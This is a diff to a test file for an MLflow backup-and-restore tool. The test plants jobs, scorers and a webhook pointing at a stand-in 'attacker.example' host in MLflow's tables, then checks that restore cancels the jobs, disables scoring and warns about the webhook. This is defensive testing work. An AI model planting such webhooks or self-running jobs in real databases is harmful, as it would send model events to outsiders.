@@ -38,6 +38,20 @@ CREATE SCHEMA planted;
 CREATE TABLE planted.runs (a int);
 SELECT lo_from_bytea(0, 'x');
 """
+# rows of MLflow's own tables that would make a server act by itself
+ACTING = """
+INSERT INTO jobs (id, creation_time, job_name, params, status, retry_count, last_update_time)
+  VALUES ('planted', 1, 'invoke_scorer', '{}', 0, 0, 1), ('ended', 1, 'invoke_scorer', '{}', 2, 0, 1);
+INSERT INTO job_locks VALUES ('planted', 'planted', 1);
+INSERT INTO scorers VALUES (0, 'planted', 'planted');
+INSERT INTO online_scoring_configs VALUES ('planted', 'planted', 1.0, 0, NULL);
+INSERT INTO webhooks (webhook_id, name, url) VALUES ('planted', 'planted', 'https://attacker.example/hook');
+"""
+ACTED = """
+DELETE FROM jobs WHERE id IN ('planted', 'ended'); DELETE FROM job_locks WHERE job_id = 'planted';
+DELETE FROM online_scoring_configs WHERE scorer_id = 'planted'; DELETE FROM scorers WHERE scorer_id = 'planted';
+DELETE FROM webhooks WHERE webhook_id = 'planted';
+"""
 GONE = """
 DROP CAST (runs AS text); DROP RULE planted_r ON experiment_tags; DROP TRIGGER planted_t ON runs;
 ALTER TABLE params ALTER COLUMN value DROP DEFAULT; ALTER TABLE tags DROP CONSTRAINT planted_c; DROP INDEX planted_i;
@@ -70,12 +84,12 @@ def ran(clone: Clone, mark: Path) -> bool:
 
 def test_what_is_not_mlflows_is_left_out_and_never_runs(clone: Clone, mark: Path, tmp_path: Path) -> None:
     run = log_run(clone, experiment(clone), "honest", b"content")
-    seen.psql(clone, PLANTED.format(live=seen.live_database(clone), mark=mark))
+    seen.psql(clone, ACTING + PLANTED.format(live=seen.live_database(clone), mark=mark))
     try:
         clone.value("backup", f"--to={tmp_path}/a.tar")
         wanted = everything(clone)
     finally:
-        seen.psql(clone, GONE)
+        seen.psql(clone, ACTED + GONE)
     root = run["info"]["artifact_uri"].removeprefix("mlflow-artifacts:/")
     # of a store that keeps both
     forged(tmp_path / "a.tar", tmp_path / "b.tar", more={f"{root}/a": b"file", f"{root}/a/b": b"below"})
@@ -92,6 +106,13 @@ def test_what_is_not_mlflows_is_left_out_and_never_runs(clone: Clone, mark: Path
                  "RULE public experiment_tags planted_r", "TABLE planted runs", "CAST - CAST (public.runs AS text)"):
         assert f"left out, because it is not MLflow's: {left}\n" in done.stderr, done.stderr
     assert seen.psql(clone, "SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace") == "1"
+    assert seen.psql(clone, "SELECT string_agg(id || status, ' ' ORDER BY id) FROM jobs") == "ended2 planted5"
+    assert seen.psql(clone, "SELECT sample_rate FROM online_scoring_configs") == "0"
+    assert seen.psql(clone, "SELECT count(*) FROM job_locks") == "0"
+    for told in ("1 jobs of MLflow that had not ended were cancelled", "automatic scoring is off for 1 judges",
+                 "webhooks send what happens to models to https://attacker.example/hook:"):
+        assert told in done.stderr
+    seen.psql(clone, ACTED)
     log_run(clone, experiment(clone), "goes on", b"more")
     assert not ran(clone, mark)
 
